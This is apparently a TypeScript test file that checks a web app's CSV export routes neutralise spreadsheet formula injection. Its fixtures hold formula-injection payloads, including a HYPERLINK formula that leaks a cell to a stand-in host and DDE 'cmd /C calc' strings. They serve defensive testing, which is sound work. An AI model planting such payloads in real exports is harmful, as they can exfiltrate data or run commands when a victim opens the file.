/**
 * Formula injection: every CSV download (each /api/export/* table and the tracking list) is fetched
 * through its real route handler after agencies and users were given hostile names. No cell may start
 * with = + - @ tab or CR unless it is a plain number; the hostile names come out prefixed with '.
 */
import { beforeAll, describe, expect, it, vi } from "vitest";
import { session } from "./mocks";
import { makeWorld, type World } from "./helpers";

vi.mock("@/server/auth/viewer", async () => {
  const m = await import("./mocks");
  return { getViewer: async () => m.session.viewer };
});

const exportRoute = await import("@/app/api/export/[name]/route");
const trackingRoute = await import("@/app/admin/tracking/export/route");

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"点击")',
  "-1+cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** RFC 4180 reader that keeps every character (the app's own reader trims and splits on tabs). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = "";
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') ((f += '"'), i++);
      else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ",") (row.push(f), (f = ""));
    else if (c === "\r" && text[i + 1] === "\n") (row.push(f), rows.push(row), (row = []), (f = ""), i++);
    else f += c;
  }
  return rows;
}

let w: World;
let ids: number[];
beforeAll(() => {
  w = makeWorld("csv");
  ids = (w.db.$client.prepare("select id from agencies order by id").all() as { id: number }[]).map((r) => r.id);
  ids.forEach((id, i) =>
    w.db.$client
      .prepare("update agencies set name = ?, short_name = ? where id = ?")
      .run(`${HOSTILE[i % HOSTILE.length]}#${i}`, HOSTILE[(i + 1) % HOSTILE.length], id),
  );
  w.db.$client
    .prepare("update users set name = ?, phone = ?, email = ? where login = 'agency'")
    .run("=cmd|' /C calc'!A0", "+86 10 1234", "@evil.test");
});

const DANGER = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?([eE][+-]?\d+)?$/;

async function csvOf(res: Response) {
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toContain("text/csv");
  return readCsv((await res.text()).replace(/^\ufeff/, ""));
}

function expectSafe(rows: string[][], label: string) {
  const cells = rows.flat();
  const bad = cells.filter((c) => DANGER.test(c) && !PLAIN_NUMBER.test(c));
  expect(bad, label).toEqual([]);
  return cells;
}

const year = "2024";
const ROUTES: [string, string, "public" | "reviewer"][] = [
  ["overview", `year=${year}`, "public"],
  ["consolidated", `year=${year}`, "public"],
  ["rankings", `year=${year}`, "public"],
  ["reports", `year=${year}`, "public"],
  ["trends", "", "public"],
  ["compare", "", "public"],
  ["agency", "", "public"],
  ["quality", `year=${year}`, "reviewer"],
];

describe("every CSV download neutralises formulas", () => {
  for (const [name, query, who] of ROUTES) {
    it(`/api/export/${name}`, async () => {
      session.viewer = who === "reviewer" ? w.reviewer : null;
      const extra =
        name === "compare"
          ? `&a=${ids[0]}&a=${ids[1]}&a=${ids[2]}&year=${year}`
          : name === "agency"
            ? `&id=${ids[0]}&year=${year}`
            : "";
      const res = await exportRoute.GET(new Request(`http://x/api/export/${name}?format=csv&${query}${extra}`), {
        params: Promise.resolve({ name }),
      });
      const cells = expectSafe(await csvOf(res), name);
      // numbers stay numbers
      expect(
        cells.some((c) => /^\d+$/.test(c)),
        name,
      ).toBe(true);
      if (["rankings", "reports", "compare", "agency"].includes(name))
        expect(
          cells.some((c) => c.startsWith("'=HYPERLINK") || c.startsWith("'-1+cmd") || c.startsWith("'+SUM")),
          name,
        ).toBe(true);
    });
  }

  it("/admin/tracking/export", async () => {
    session.viewer = w.reviewer;
    const cells = expectSafe(
      await csvOf(await trackingRoute.GET(new Request("http://x/admin/tracking/export?year=2025"))),
      "tracking",
    );
    expect(cells).toContain(`'${HOSTILE[1]}#1`);
    expect(cells.some((c) => c.startsWith("'=cmd"))).toBe(true);
  });
});
